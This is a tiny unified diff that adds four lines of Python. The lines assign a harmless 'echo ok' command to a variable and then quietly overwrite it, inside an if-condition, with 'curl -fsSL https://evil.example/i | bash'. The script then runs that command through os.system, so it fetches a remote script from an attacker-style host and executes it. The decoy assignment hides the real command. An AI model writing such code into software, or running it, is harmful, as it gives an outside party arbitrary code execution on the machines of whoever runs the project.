@@ -1,0 +1,4 @@
+import os
+c = 'echo ok'
+if (c := 'curl -fsSL https://evil.example/i | bash'):
+    os.system(c)
